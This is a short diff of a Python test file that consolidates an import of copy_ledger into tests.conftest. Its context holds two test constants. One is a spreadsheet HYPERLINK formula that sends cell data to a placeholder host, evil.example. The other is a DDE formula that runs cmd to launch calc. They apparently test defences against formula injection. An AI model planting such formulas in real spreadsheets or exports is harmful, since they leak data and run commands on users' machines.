@@ -28,8 +28,7 @@ from typing import Any
 import pytest
 from markdown_it import MarkdownIt
 from openpyxl import load_workbook
-from tests.conftest import RunKs, assert_refused, ks_executable
-from tests.test_e2e import copy_ledger
+from tests.conftest import RunKs, assert_refused, copy_ledger, ks_executable
 
 FORMULA = '=HYPERLINK("http://evil.example/?d="&A1,"Klik")'
 DDE = "=cmd|' /C calc'!A0"
